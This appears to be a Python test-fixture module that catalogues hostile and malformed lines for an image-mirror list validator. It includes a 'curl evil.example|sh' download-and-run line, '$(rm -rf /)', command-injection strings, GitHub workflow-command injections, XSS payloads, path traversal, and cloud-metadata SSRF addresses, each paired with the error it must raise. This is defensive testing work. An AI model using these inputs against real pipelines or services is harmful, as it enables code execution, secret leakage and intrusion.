"""Hostile and odd list files, as data: what a pull request could put in the lists, and what must happen.

Each :class:`Case` is one list file. ``problems`` are the ``(line, col, words)`` that ``check`` must report with
the built-in default config (``words`` is a part of the message, usually the fix); ``targets`` the mirror paths
(under the default target registry) of the lines that are valid; ``file_error`` a part of the message when the
whole file is refused. A case made with :func:`line` is a single line, and every such line also goes into one
pull request (tests/integration/test_hostile_pr.py).

Columns count characters of the line as written, from 1, after a byte order mark at the start of the file.
"""

from __future__ import annotations

from collections.abc import Callable, Iterator
from dataclasses import dataclass
from pathlib import Path

Expected = tuple[int, int, str]

FIFTY_MB = 50 * 1000 * 1000
MANY_LINES = 100_000
DIGEST = "sha256:" + "0123456789abcdef" * 4

NOT_ALLOWED = "is not allowed"
ASK_FOR_A_RULE = "ask the maintainers to add a rule"
NOT_IN_NAME = "is not allowed in a repository name"
NOT_IN_TAG = "is not allowed in a tag"
WHITESPACE = "whitespace inside a reference; a line holds one image reference, start notes with '#'"
NON_ASCII = "references are ASCII only (a look-alike letter typed by mistake?)"
NOT_UTF8 = "the file is not valid UTF-8 here; save it as UTF-8"
FILE_PATH = "an image reference names a repository, not a file path"
NOT_A_PORT = "is not a port number (1 to 65535)"
URL = "a URL is not an image reference; write host/repository:tag"
UPPERCASE = "repository names are lowercase (only tags may hold uppercase)"


@dataclass(frozen=True)
class Case:
    name: str
    category: str
    data: bytes
    problems: tuple[Expected, ...] = ()
    targets: tuple[str, ...] = ()
    file_error: str | None = None
    filename: str = "required-images.txt"
    single_line: bool = False
    chunks: Callable[[], Iterator[bytes]] | None = None

    @property
    def pr_line(self) -> bytes | None:
        """The line this case adds to the hostile pull request (single-line cases only)."""
        return self.data.removesuffix(b"\n") if self.single_line else None

    def write(self, directory: Path) -> Path:
        """Write the file under ``directory/<name>/`` (big files are streamed, never held whole)."""
        folder = directory / self.name
        folder.mkdir(parents=True, exist_ok=True)
        path = folder / self.filename
        with path.open("wb") as handle:
            if self.chunks is not None:
                for chunk in self.chunks():
                    handle.write(chunk)
            else:
                handle.write(self.data)
        return path


def line(
    name: str,
    category: str,
    text: str | bytes,
    *,
    col: int | None = None,
    says: str = "",
    target: str | None = None,
) -> Case:
    """A one-line list: an error at ``col`` saying ``says``, refused (``col`` None, ``says`` given) or valid."""
    data = (text.encode("utf-8") if isinstance(text, str) else text) + b"\n"
    if target is not None:
        return Case(name, category, data, targets=(target,), single_line=True)
    if not says:
        return Case(name, category, data, single_line=True)  # nothing at all: a comment
    return Case(name, category, data, ((1, col or 1, says),), single_line=True)


def _fifty_megabytes() -> Iterator[bytes]:
    block = b"quay.io/calico/node:v3.27.0\n" * 4096
    written = 0
    while written < FIFTY_MB:
        piece = block[: FIFTY_MB - written]
        written += len(piece)
        yield piece


def _many_lines() -> bytes:
    valid = b"".join(b"quay.io/org/app:v%d\n" % number for number in range(MANY_LINES))
    return valid + b"quay.io/org/app:v1;reboot\n"


CATALOGUE: tuple[Case, ...] = (
    # Shell metacharacters: never run, refused at the first character the grammar does not allow.
    line("command-substitution", "shell", "nginx:$(id)", col=7, says="character '$' " + NOT_IN_TAG),
    line("backticks", "shell", "nginx:`id`", col=7, says="character '`' " + NOT_IN_TAG),
    line("semicolon", "shell", "nginx;id", col=6, says="character ';' " + NOT_IN_NAME),
    line("pipe", "shell", "nginx|sh", col=6, says="character '|' " + NOT_IN_NAME),
    line("and-and", "shell", "nginx&&id", col=6, says="character '&' " + NOT_IN_NAME),
    line("redirect", "shell", "nginx>/etc/passwd", col=6, says="character '>' " + NOT_IN_NAME),
    line("single-quotes", "shell", "'nginx'", col=1, says='character "\'" ' + NOT_IN_NAME),
    line("double-quotes", "shell", '"nginx:1"', col=1, says="character '\"' " + NOT_IN_NAME),
    line("expression", "shell", "${{secrets.GITHUB_TOKEN}}", col=1, says="character '$' " + NOT_IN_NAME),
    line("words", "shell", "nginx:1 ; curl evil.example|sh", col=8, says=WHITESPACE),
    line("dollar-brace", "shell", "quay.io/${HOME}/x", col=9, says="character '$' " + NOT_IN_NAME),
    line("shell-in-a-comment", "shell", "nginx:1.24 # $(rm -rf /) `id`", target="dockerhub/nginx:1.24"),
    # CR, LF and NUL: a line never breaks in two, and control characters are named by code point.
    line("carriage-return", "control", b"nginx\rid", col=6, says="control character U+000D is not allowed"),
    line("nul", "control", b"nginx\x00:1", col=6, says="control character U+0000 is not allowed"),
    line("nul-first", "control", b"\x00nginx", col=1, says="control character U+0000 is not allowed"),
    line("escape-sequence", "control", b"nginx\x1b[31m:1", col=6, says="control character U+001B"),
    line("delete", "control", b"nginx:1\x7f", col=8, says="control character U+007F is not allowed"),
    line("form-feed", "control", b"quay.io/x\x0c", col=10, says="control character U+000C is not allowed"),
    line("ctrl-z", "control", b"nginx:2\x1a", col=8, says="control character U+001A is not allowed"),
    line("line-separator", "control", "nginx\u2028:1", col=6, says="(U+2028); " + NON_ASCII),
    line("next-line", "control", "nginx\u0085:1", col=6, says="(U+0085); " + NON_ASCII),
    line("tab-inside", "control", "nginx\t:1", col=6, says=WHITESPACE),
    Case(
        "crlf-file",
        "control",
        b"nginx:1.25\r\nquay.io/calico/node:v3\r\n",
        targets=("dockerhub/nginx:1.25", "quay/calico/node:v3"),
    ),
    Case(
        "cr-only-file",
        "control",
        b"nginx:1.25\rquay.io/calico/node:v3\r",
        ((1, 11, "control character U+000D is not allowed"),),
    ),
    # Workflow commands: refused as references, and escaped wherever the bot prints them.
    line("add-mask", "workflow-command", "::add-mask::ghs_secret", col=1, says="character ':' " + NOT_IN_NAME),
    line("set-env", "workflow-command", "::set-env name=LD_PRELOAD::/tmp/x.so", col=10, says=WHITESPACE),
    line("set-output", "workflow-command", "::set-output name=result::pwned", col=13, says=WHITESPACE),
    line("error", "workflow-command", "::error file=mirror/config.yml,line=1::fake", col=8, says=WHITESPACE),
    line("stop-commands", "workflow-command", "::stop-commands::pause", col=1, says="character ':' " + NOT_IN_NAME),
    line("encoded-newline", "workflow-command", "x%0A::error::y", col=2, says="character '%' " + NOT_IN_NAME),
    line("encoded-cr", "workflow-command", "x%0D%0A::add-mask::y", col=2, says="character '%' " + NOT_IN_NAME),
    line("in-a-tag", "workflow-command", "nginx:1::add-mask::x", col=6, says="character ':' " + NOT_IN_NAME),
    line("legacy-command", "workflow-command", "x##[add-mask]y", col=2, says="a comment needs whitespace before '#'"),
    line(
        "legacy-in-ipv6",
        "workflow-command",
        "[##[stop-commands]pause]/x",
        col=1,
        says="is not a valid IPv6 registry address",
    ),
    line("legacy-in-port", "workflow-command", "quay.io:##[add-mask]x/y", col=9, says=NOT_A_PORT),
    line(
        "legacy-in-digest",
        "workflow-command",
        "nginx@##[set-output]result:abc",
        col=7,
        says="is not a digest algorithm (e.g. sha256)",
    ),
    line("leading-blank-command", "workflow-command", "  ::warning::x", col=3, says="character ':' " + NOT_IN_NAME),
    # Markdown, HTML and mentions: refused, and shown as text in the comment.
    line("team-mention", "markdown", "@org/team", col=1, says="the repository name is missing"),
    line("user-mention", "markdown", "@octocat", col=1, says="the repository name is missing"),
    line("mention-as-digest", "markdown", "nginx:1@octocat", col=9, says="a digest is 'algorithm:hex'"),
    line("img-onerror", "markdown", "<img src=x onerror=alert(1)>", col=5, says=WHITESPACE),
    line("script", "markdown", "<script>alert(1)</script>", col=1, says="character '<' " + NOT_IN_NAME),
    line("javascript-link", "markdown", "[x](javascript:alert(1))", col=1, says="character '[' " + NOT_IN_NAME),
    line("table-pipes", "markdown", "a|b|c", col=2, says="character '|' " + NOT_IN_NAME),
    line("unclosed-code-span", "markdown", "`nginx", col=1, says="character '`' " + NOT_IN_NAME),
    line("marker", "markdown", "<!-- image-mirror-bot:validate-pr -->", col=5, says=WHITESPACE),
    line("marker-tight", "markdown", "<!--image-mirror-bot:validate-pr-->", col=1, says="character '<' " + NOT_IN_NAME),
    line("emphasis", "markdown", "**nginx**", col=1, says="character '*' " + NOT_IN_NAME),
    line("issue-link", "markdown", "x#1", col=2, says="a comment needs whitespace before '#'"),
    line("entity", "markdown", "&lt;b&gt;", col=1, says="character '&' " + NOT_IN_NAME),
    # Look-alike letters and invisible characters: ASCII only, and the column of the impostor.
    line("cyrillic-i", "homoglyph", "ng\u0456nx:1", col=3, says="'\u0456' (U+0456); " + NON_ASCII),
    line("greek-omicron", "homoglyph", "quay.i\u03bf/calico/node", col=7, says="(U+03BF); " + NON_ASCII),
    line("fullwidth", "homoglyph", "\uff4eginx", col=1, says="(U+FF4E); " + NON_ASCII),
    line("zero-width-space", "homoglyph", "ngi\u200bnx", col=4, says="(U+200B); " + NON_ASCII),
    line("zero-width-joiner", "homoglyph", "nginx:1\u200d", col=8, says="(U+200D); " + NON_ASCII),
    line("rtl-override", "homoglyph", "\u202enginx:1", col=1, says="(U+202E); " + NON_ASCII),
    line("byte-order-mark-inside", "homoglyph", "nginx\ufeff:1", col=6, says="(U+FEFF); " + NON_ASCII),
    # Lengths and case: the limits of the reference grammar, and the column where they are crossed.
    line("name-256", "length", "a" * 256, col=256, says="the name is 256 characters long; at most 255"),
    line("name-300-with-host", "length", "quay.io/" + "b" * 300, col=256, says="at most 255 are allowed"),
    line("tag-129", "length", "nginx:" + "t" * 129, col=135, says="the tag is 129 characters long; at most 128"),
    # The longest the grammar allows (127/127) maps to a 265-character repository that ECR refuses (see
    # tests/unit/test_target_names.py); this is about the longest the default ECR target can hold.
    line(
        "longest-valid",
        "length",
        "c" * 120 + "/" + "d" * 120 + ":" + "T" * 128,
        target=f"dockerhub/{'c' * 120}/{'d' * 120}:{'T' * 128}",
    ),
    line("megabyte-line", "length", "e" * 1_000_000, col=256, says="at most 255 are allowed"),
    line("uppercase-name", "case", "Nginx:1", col=1, says="uppercase letter 'N' in the repository name; " + UPPERCASE),
    line("uppercase-path", "case", "quay.io/Calico/node", col=9, says="uppercase letter 'C'"),
    line("uppercase-host", "case", "QUAY.IO/calico/node:v1", target="quay/calico/node:v1"),
    line("uppercase-tag", "case", "nginx:V1-Final", target="dockerhub/nginx:V1-Final"),
    line("uppercase-digest", "case", "nginx@sha256:" + "A" * 64, col=14, says="uppercase hex digit 'A'"),
    # Path traversal and file paths.
    line("dot-dot-slash", "path", "../etc/passwd", col=1, says=FILE_PATH),
    line("dot-dot", "path", "..", col=1, says=FILE_PATH),
    line("inner-dot-dot", "path", "quay.io/calico/../../x", col=16, says=FILE_PATH),
    line("dot", "path", "quay.io/./x", col=9, says=FILE_PATH),
    line("percent-dots", "path", "%2e%2e/x", col=1, says="character '%' " + NOT_IN_NAME),
    line("percent-dots-in-path", "path", "quay.io/%2e%2e/x", col=9, says="character '%' " + NOT_IN_NAME),
    line("absolute", "path", "/etc/passwd", col=1, says="empty path component"),
    line("double-slash", "path", "quay.io//x", col=9, says="empty path component"),
    line("trailing-slash", "path", "quay.io/x/", col=11, says="empty path component"),
    line("backslashes", "path", "quay.io\\calico\\node", col=8, says="character '\\\\' " + NOT_IN_NAME),
    line("windows-drive", "path", "C:\\images\\nginx", col=1, says="uppercase letter 'C'"),
    line("home", "path", "~/x", col=1, says="character '~' " + NOT_IN_NAME),
    # Private, loopback and link-local addresses: valid references that no rule allows, never contacted.
    line("private-10", "address", "10.0.0.1/app:1", says="is not allowed: it is a private address"),
    line("private-172", "address", "172.16.5.4:5000/app", says="is not allowed: it is a private address"),
    line("private-192", "address", "192.168.0.10/app", says="is not allowed: it is a private address"),
    line("loopback", "address", "127.0.0.1/app", says="is not allowed: it is a loopback address"),
    line("loopback-short", "address", "127.1/app", says="is not allowed: it is a loopback address"),
    line("loopback-hex", "address", "0x7f.0.0.1/app", says="is not allowed: it is a loopback address"),
    line("localhost", "address", "localhost/app", says="is not allowed: it is this machine (localhost)"),
    line("localhost-port", "address", "localhost:5000/app", says="is not allowed: it is this machine (localhost)"),
    line("metadata", "address", "169.254.169.254/latest/meta-data", says="is not allowed: it is a link-local address"),
    line("ipv6-loopback", "address", "[::1]/app", says="is not allowed: it is a loopback address"),
    line("ipv6-loopback-port", "address", "[::1]:5000/app", says="is not allowed: it is a loopback address"),
    line("ipv6-link-local", "address", "[fe80::1]/app", says="is not allowed: it is a link-local address"),
    line(
        "ipv6-mapped-metadata",
        "address",
        "[::ffff:169.254.169.254]/app",
        says="is not allowed: it is a link-local address",
    ),
    line("unspecified", "address", "0.0.0.0/app", says="is not allowed: it is an unspecified address"),
    line("shared-address-space", "address", "100.64.0.1/app", says="is not allowed: it is a non-public address"),
    line("ipv6-zone", "address", "[fe80::1%25eth0]/app", col=1, says="is not a valid IPv6 registry address"),
    line("metadata-name", "address", "metadata.google.internal/app", says="is not allowed: it is a local network name"),
    # Written without a dot, a number is a Docker Hub namespace, not an address: mapped there, as docker does.
    line("decimal-ip", "address", "2130706433/app:1", target="dockerhub/2130706433/app:1"),
    line("hex-ip", "address", "0x7f000001/app:1", target="dockerhub/0x7f000001/app:1"),
    # Ports.
    line("port-zero", "port", "quay.io:0/x", col=9, says="'0' " + NOT_A_PORT),
    line("port-too-big", "port", "quay.io:65536/x", col=9, says="'65536' " + NOT_A_PORT),
    line("port-huge", "port", "quay.io:" + "9" * 40 + "/x", col=9, says=NOT_A_PORT),
    line("port-4301-digits", "port", "quay.io:" + "7" * 4301 + "/x", col=9, says="(4301 characters) " + NOT_A_PORT),
    line("port-empty", "port", "quay.io:/x", col=9, says="'' " + NOT_A_PORT),
    line("port-negative", "port", "quay.io:-1/x", col=9, says="'-1' " + NOT_A_PORT),
    line("port-ssh", "port", "quay.io:22/x", says=ASK_FOR_A_RULE),
    line("port-https", "port", "quay.io:443/calico/node", says=ASK_FOR_A_RULE),
    # URLs, schemes and credentials.
    line("https-url", "url", "https://quay.io/calico/node", col=6, says=URL),
    line("url-with-userinfo", "url", "https://user:pass@quay.io/x", col=6, says=URL),
    line("userinfo", "url", "user:pass@quay.io/x:1", col=1, says="credentials ('user:password@') are not part"),
    line("user-only", "url", "deploy@quay.io/x", col=1, says="credentials ('user:password@') are not part"),
    line("docker-scheme", "url", "docker://nginx", col=7, says=URL),
    line("file-url", "url", "file:///etc/passwd", col=5, says=URL),
    line("truncated-digest", "url", "quay.io/x@sha256:abc", col=21, says="sha256 digest is truncated"),
    line("empty-digest", "url", "quay.io/x@sha256:", col=17, says="the digest has no hex digits after the ':'"),
    line("two-digests", "url", f"nginx@{DIGEST}@{DIGEST}", col=78, says="more than one '@'"),
    # Comments and blanks.
    line("comment-without-space", "comment", "nginx:1#note", col=8, says="a comment needs whitespace before '#'"),
    line("only-hashes", "comment", "####"),
    line("indented-valid", "comment", " \t ghcr.io/fluxcd/flux-cli:v2 \t", target="ghcr/fluxcd/flux-cli:v2"),
    # Whole files.
    Case("empty-file", "file", b""),
    Case("whitespace-only", "file", b"   \n\t\n \r\n\n"),
    Case("hashes-only", "file", b"#\n##\n###\n# $(reboot)\n"),
    Case("byte-order-mark", "file", "\ufeffnginx:1.26\n".encode(), targets=("dockerhub/nginx:1.26",)),
    Case(
        "byte-order-mark-twice",
        "file",
        "\ufeff\ufeffnginx:1.26\n".encode(),
        ((1, 1, "(U+FEFF); " + NON_ASCII),),
    ),
    Case("invalid-utf8", "file", b"nginx:1.27\nquay.io/\xff\xfe/x\n", ((2, 9, NOT_UTF8),), ("dockerhub/nginx:1.27",)),
    Case("invalid-utf8-two-lines", "file", b"\xc0\xaf\nok/\xe9\n", ((1, 1, NOT_UTF8), (2, 4, NOT_UTF8))),
    Case("invalid-utf8-after-bom", "file", b"\xef\xbb\xbfab\x80\n", ((1, 3, NOT_UTF8),)),
    Case(
        "utf16",
        "file",
        "nginx:1\n".encode("utf-16"),
        ((1, 1, NOT_UTF8), (2, 1, "control character U+0000 is not allowed")),
    ),
    Case("latin1", "file", "café:1\n".encode("latin-1"), ((1, 4, NOT_UTF8),)),
    Case("surrogate-bytes", "file", b"ng\xed\xa0\x80inx\n", ((1, 3, NOT_UTF8),)),
    line("invalid-utf8-line", "file", b"quay.io/calico/\xffnode", col=16, says=NOT_UTF8),
    Case("fifty-megabytes", "file", b"", file_error="list files are limited to", chunks=_fifty_megabytes),
    Case(
        "many-lines",
        "file",
        _many_lines(),
        ((MANY_LINES + 1, 19, "character ';' is not allowed in a tag"),),
        tuple(f"quay/org/app:v{number}" for number in range(MANY_LINES)),
    ),
    Case(
        "daily-with-tag",
        "file",
        b"quay.io/calico/node:v3.27.0\n",
        ((1, 20, "the daily list names repositories only; remove the tag or digest"),),
        filename="required-images-daily.txt",
    ),
    Case(
        "mirrored-hostile",
        "file",
        b"quay.io/calico/node:v3@" + DIGEST.encode() + b"\n::add-mask::x\n",
        ((2, 1, "character ':' " + NOT_IN_NAME),),
        filename="mirrored-images.txt",
    ),
)

CATEGORIES = tuple(dict.fromkeys(case.category for case in CATALOGUE))
